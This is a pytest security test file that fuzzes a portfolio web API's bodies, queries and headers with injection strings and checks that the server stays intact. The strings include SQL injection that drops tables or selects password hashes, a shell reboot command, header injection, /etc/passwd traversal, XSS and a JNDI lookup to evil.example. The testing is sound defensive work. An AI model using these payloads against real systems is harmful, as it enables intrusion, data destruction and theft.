"""Strings that attack databases, headers, logs, shells and pages, in every text of every request.

Generated from the route table and the OpenAPI document."""

import copy
import json
from collections.abc import Iterator
from typing import Any
from uuid import uuid4

import httpx
import pytest

from econlens.api.openapi import document
from econlens.api.refresh_cookie import NAME as COOKIE_NAME
from econlens.api.route_table import ROUTES, Auth, Route
from tests.client import PASSWORD, User, a_portfolio, a_registration, sign_up

LONE_SURROGATE = "\ud83d"
ATTACKS = [
    "'; DROP TABLE portfolios; --",
    "' OR '1'='1",
    '") UNION SELECT password_hash FROM local.accounts --',
    "%s %(id)s {0} {table} $1",
    "$(reboot) `reboot` | reboot",
    "x\r\nSet-Cookie: evil=1\r\n\r\n<html>",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "=HYPERLINK(1)",
    "\u202e\u0000\ufffe",
    "\U0001f600" * 3,
    LONE_SURROGATE,
    "${jndi:ldap://evil.example/a}",
    '{"$ne": null}',
]
AS_JSON = {"Content-Type": "application/json"}
DOCUMENT = document()
WITH_A_BODY = [route for route in ROUTES if route.request]
WITH_A_QUERY = [route for route in ROUTES if route.query]
Json = Any
# What a good request looks like; fields of other bodies are made from their schema.
GOOD: dict[str, Json] = {
    "register": a_registration(),
    "login": {"email": "ada@example.org", "password": PASSWORD},
    "createPortfolio": a_portfolio(),
    "updatePortfolio": a_portfolio(),
    "sharePortfolio": {"passphrase": "long enough"},
}


def example(schema: dict[str, Any]) -> Json:
    """The least that fits a schema."""
    if "$ref" in schema:
        return example(DOCUMENT["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]])
    for choice in ("allOf", "anyOf"):
        if choice in schema:
            return example(schema[choice][0])
    if "enum" in schema:
        return schema["enum"][0]
    kind = schema.get("type")
    if kind == "object":
        fields = schema.get("properties", {})
        return {name: example(field) for name, field in fields.items()}
    if kind == "array":
        return [example(schema["items"])]
    return {"string": "x", "integer": 1, "number": 1, "boolean": True}.get(str(kind), "x")


def places(value: Json, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The way to every text in a body."""
    if isinstance(value, str):
        yield path
    elif isinstance(value, dict):
        for name, inner in value.items():
            yield from places(inner, (*path, name))
    elif isinstance(value, list):
        for at, inner in enumerate(value):
            yield from places(inner, (*path, at))


def with_attack(body: Json, path: tuple[Any, ...], attack: str) -> Json:
    changed = copy.deepcopy(body)
    inner = changed
    for step in path[:-1]:
        inner = inner[step]
    inner[path[-1]] = attack
    return changed


def body_of(route: Route) -> Json:
    assert route.request is not None
    schema = {"$ref": f"#/components/schemas/{route.request.__name__}"}
    return GOOD.get(route.operation) or example(schema)


def check(answer: httpx.Response) -> None:
    assert answer.status_code < 500, answer.text
    # Signing out clears our own cookie; no other is ever set here, whatever the text says.
    cookies = answer.headers.get_list("set-cookie")
    assert all(cookie.startswith(f"{COOKIE_NAME}=;") for cookie in cookies), cookies
    for word in ("psycopg", "Traceback", "syntax error", "argon2id"):
        assert word not in answer.text


@pytest.fixture(scope="module")
def victim(http: httpx.Client) -> User:
    return sign_up(http)


@pytest.fixture(scope="module")
def portfolio_id(victim: User) -> str:
    return victim.create_portfolio(name="Untouched")


def send(victim: User, route: Route, an_id: str, **request: Any) -> httpx.Response:
    path = route.path.replace("{id}", an_id).replace("{token}", "x" * 43)
    if route.auth is Auth.NONE:
        return victim.http.request(route.method, f"/v1{path}", **request)
    return victim.call(route.method, path, **request)


@pytest.mark.parametrize("route", WITH_A_BODY, ids=lambda route: route.operation)
def test_no_text_in_a_body_is_anything_but_text(
    route: Route, victim: User, portfolio_id: str
) -> None:
    body = body_of(route)
    an_id = portfolio_id if route.path.startswith("/portfolios/{id}") else str(uuid4())
    for path in places(body):
        for attack in ATTACKS:
            content = json.dumps(with_attack(body, path, attack))
            check(send(victim, route, an_id, content=content, headers=AS_JSON))


@pytest.mark.parametrize("route", WITH_A_QUERY, ids=lambda route: route.operation)
def test_no_text_in_a_query_is_anything_but_text(
    route: Route, victim: User, portfolio_id: str
) -> None:
    assert route.query is not None
    for name in route.query.__struct_encode_fields__:
        for attack in ATTACKS:
            text = attack.encode("utf-8", "replace").decode()
            check(send(victim, route, portfolio_id, params={name: text}))


@pytest.mark.parametrize("name", ["If-Match", "X-Share-Passphrase", "User-Agent", "X-Access-Token"])
def test_no_header_breaks_out(name: str, victim: User, portfolio_id: str) -> None:
    for attack in ATTACKS:
        value = attack.encode("latin-1", "replace").replace(b"\r", b"").replace(b"\n", b"")
        value = value.replace(b"\x00", b"")
        headers = {name.encode(): value}
        if name != "Authorization":
            headers[b"Authorization"] = f"Bearer {victim.tokens['idToken']}".encode()
        for route in ("GET", "/v1/user/devices"), ("GET", f"/v1/portfolios/{portfolio_id}"):
            check(victim.http.request(*route, headers=headers))


def test_a_name_comes_back_letter_by_letter(victim: User) -> None:
    for attack in ATTACKS:
        if "\u0000" in attack or attack == LONE_SURROGATE:
            continue
        an_id = victim.create_portfolio(name=attack)
        assert victim.call("GET", f"/portfolios/{an_id}").json()["name"] == attack


def test_after_all_attacks_the_tables_are_there_and_the_rest_untouched(
    victim: User, portfolio_id: str, http: httpx.Client
) -> None:
    assert victim.call("GET", f"/portfolios/{portfolio_id}").status_code == 200
    assert http.get("/v1/health").json()["database"] == "ok"
    assert sign_up(http).call("GET", "/portfolios").json()["portfolios"] == []
